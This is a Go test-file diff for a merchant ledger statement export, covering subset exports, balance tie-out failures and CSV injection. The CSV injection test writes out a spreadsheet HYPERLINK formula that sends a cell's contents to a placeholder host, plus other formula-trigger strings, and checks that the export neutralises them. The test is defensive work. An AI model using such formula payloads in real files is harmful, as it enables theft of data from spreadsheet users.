@@ -6,7 +6,9 @@ import (
 	"encoding/csv"
 	"encoding/hex"
 	"errors"
+	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strconv"
@@ -63,6 +65,32 @@ func TestExportJSONL(t *testing.T) {
 	}
 }
 
+// An export of some merchants into the directory of the full export's file
+// writes a file of its own: it holds another job lock, and must not replace
+// the statements of every merchant.
+func TestExportSubsetBesideAll(t *testing.T) {
+	e := newEnv(t)
+	e.seed(t, []string{"m-1", "m-2"}, 4)
+	all, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(2, 4)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	some, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(2, 4), Merchants: []string{"m-2"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if all.Path == some.Path || len(files(t, e.dir)) != 2 {
+		t.Fatalf("the export of m-2 wrote %s beside %s; the directory holds %v", some.Path, all.Path, files(t, e.dir))
+	}
+	if tr := records(t, all.Path); tr[len(tr)-1]["merchants"] != float64(2) {
+		t.Fatalf("the full export's file now holds %v", tr[len(tr)-1])
+	}
+	again, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(2, 4), Merchants: []string{"m-2", "m-2"}})
+	if err != nil || again.Path != some.Path {
+		t.Fatalf("the same set again wrote %s (%v), want %s", again.Path, err, some.Path)
+	}
+}
+
 // The CSV export holds the same records, one header for all.
 func TestExportCSV(t *testing.T) {
 	e := newEnv(t)
@@ -95,6 +123,50 @@ func TestExportCSV(t *testing.T) {
 	}
 }
 
+// A payment id a spreadsheet would read as a formula is written inert, with
+// a leading ' (CSV injection); the commas and quotes in it are quoted.
+func TestExportCSVInert(t *testing.T) {
+	e := newEnv(t)
+	e.seed(t, []string{"m-1"}, 1)
+	formula := `=HYPERLINK("http://example.test/?"&A1,"a, b")`
+	for i, pay := range []string{formula, "-2+3", "@SUM(A1)", "+1"} {
+		r := debit(fmt.Sprintf("x-%d", i), "m-1", 1)
+		r.PaymentID = pay
+		if err := e.store.Commit(t.Context(), []ledger.Row{r}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := e.db.SQL.Exec("UPDATE quota_ledger SET created_at = TIMESTAMPADD(HOUR, seq, ?) WHERE seq IS NOT NULL", base); err != nil {
+		t.Fatal(err)
+	}
+	sum, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(0, 10), Format: statement.FormatCSV})
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(sum.Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var pays []string
+	for _, r := range recs {
+		if r[0] == "row" && r[1] == "m-1" && strings.HasPrefix(r[4], "x-") {
+			pays = append(pays, r[10])
+		}
+	}
+	if want := []string{"'" + formula, "'-2+3", "'@SUM(A1)", "'+1"}; !slices.Equal(pays, want) {
+		t.Fatalf("payment ids %q, want %q", pays, want)
+	}
+	// The check operations.md gives a reader of the file.
+	out, err := exec.Command("sh", "-c", `head -n -1 "$1" | sha256sum && sed '$d' "$1" | sha256sum`, "sh", sum.Path).Output()
+	if want := sum.Trailer.SHA256 + "  -\n"; err != nil || string(out) != want+want {
+		t.Fatalf("sha256sum of the lines before the trailer: %q (%v), the trailer says %s", out, err, sum.Trailer.SHA256)
+	}
+}
+
 // A corrupted row stops the export naming its merchant; nothing is left.
 func TestExportCorruptedRow(t *testing.T) {
 	e := newEnv(t)
@@ -124,6 +196,50 @@ func TestExportBalanceDisagrees(t *testing.T) {
 	var te *ledger.TieOutError
 	if !errors.As(err, &te) || te.MerchantID != "m-1" || !strings.Contains(err.Error(), "merchant_balance has 89") {
 		t.Fatalf("err = %v, want the tie-out error of m-1 against merchant_balance", err)
+	}
+}
+
+// A balance row whose credited and debited are both off by the same amount
+// has the right balance, and still does not tie out.
+func TestExportBalanceSidesDisagree(t *testing.T) {
+	e := newEnv(t)
+	e.seed(t, []string{"m-1", "m-2"}, 4)
+	if _, err := e.db.SQL.Exec("UPDATE merchant_balance SET credited = credited + 7, debited = debited + 7 WHERE merchant_id = 'm-2'"); err != nil {
+		t.Fatal(err)
+	}
+	_, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(0, 2)})
+	var te *ledger.TieOutError
+	if !errors.As(err, &te) || te.MerchantID != "m-2" || !strings.Contains(err.Error(), "credited 107 - debited 17") {
+		t.Fatalf("err = %v, want the tie-out error of m-2 against merchant_balance", err)
+	}
+	if f := files(t, e.dir); len(f) != 0 {
+		t.Fatalf("left behind: %v", f)
+	}
+}
+
+// Ledger rows of a merchant whose balance row is gone stop the export,
+// wherever the merchant sorts: between two pages, after the last, or inside
+// a page.
+func TestExportOrphanRows(t *testing.T) {
+	for _, c := range []struct {
+		gone string
+		page int
+	}{{"m-2", 1}, {"m-3", 1}, {"m-2", 10}, {"m-1", 1}} {
+		t.Run(fmt.Sprintf("%s page %d", c.gone, c.page), func(t *testing.T) {
+			e := newEnv(t)
+			e.seed(t, []string{"m-1", "m-2", "m-3"}, 2)
+			if _, err := e.db.SQL.Exec("DELETE FROM merchant_balance WHERE merchant_id = ?", c.gone); err != nil {
+				t.Fatal(err)
+			}
+			_, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(0, 2), Page: c.page})
+			var te *ledger.TieOutError
+			if !errors.As(err, &te) || te.MerchantID != c.gone || !strings.Contains(err.Error(), "no merchant_balance row") {
+				t.Fatalf("err = %v, want the tie-out error of %s without a balance row", err, c.gone)
+			}
+			if f := files(t, e.dir); len(f) != 0 {
+				t.Fatalf("left behind: %v", f)
+			}
+		})
 	}
 }
 
